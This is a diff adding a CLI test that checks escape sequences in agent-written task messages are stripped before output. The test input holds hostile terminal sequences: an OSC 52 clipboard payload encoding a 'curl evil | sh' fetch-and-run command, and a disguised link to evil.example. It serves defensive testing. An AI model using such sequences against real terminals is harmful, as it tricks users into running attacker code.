@@ -987,6 +987,37 @@ def daemon_commands(t, cli, api):
              (rc, err))
 
 
+def terminal_escapes(t, cli, api):
+    """What an agent wrote (the /complete message, a condition's message)
+    reaches the reader's terminal without its escape sequences: OSC 52
+    would set the clipboard, CSI 2J clear the screen, OSC 8 dress a link,
+    a C1 CSI (U+009B) too."""
+    rc, out, err = cli("task", "create", "Escapes", "--name", "esc", "-n",
+                       "solo")
+    hostile = ("done\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b[2J\x1b[H"
+               "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
+               "\u009b31m red\x7f\nnext line")
+    api.set_status("esc", {
+        "phase": "Failed", "reason": "AgentFailed", "message": hostile,
+        "conditions": [{"type": "Ready", "status": "False",
+                        "reason": "PodFailed", "message": hostile,
+                        "lastTransitionTime": "2026-01-01T00:00:00Z"}]},
+        ns="solo")
+    bad = ("\x1b", "\x07", "\x7f", "\u009b")
+    for args in (("task", "status", "esc"), ("task", "list"),
+                 ("task", "logs", "esc")):
+        rc, out, err = cli(*(args + ("-n", "solo")))
+        # (the list shows no message: only that it stays clean)
+        t.ok(rc == 0 and ("done" in out or args[1] == "list") and
+             not any(c in out + err for c in bad),
+             "diverge %s: no escape sequence from the task reaches the "
+             "terminal" % " ".join(args), (rc, out, err))
+    rc, out, err = cli("task", "status", "esc", "-n", "solo", "-o", "json")
+    t.ok(rc == 0 and json.loads(out)["status"]["message"] == hostile,
+         "task status -o json keeps the message as it is (JSON-escaped)",
+         (rc, out[:500]))
+
+
 def embedded(t):
     """diverged itself."""
     d = Daemon(config=None).start()
@@ -1009,6 +1040,7 @@ def embedded(t):
          "a failed write of the output: exit 1", (p.returncode, p.stderr))
     daemon_commands(t, cli, api)
     init_and_agent_yaml(t, server)
+    terminal_escapes(t, cli, api)
     rc, out, err = run(["--server", server, "task", "list", "-n",
                         "solo"])
     t.ok(rc == 0 and "first" in out,
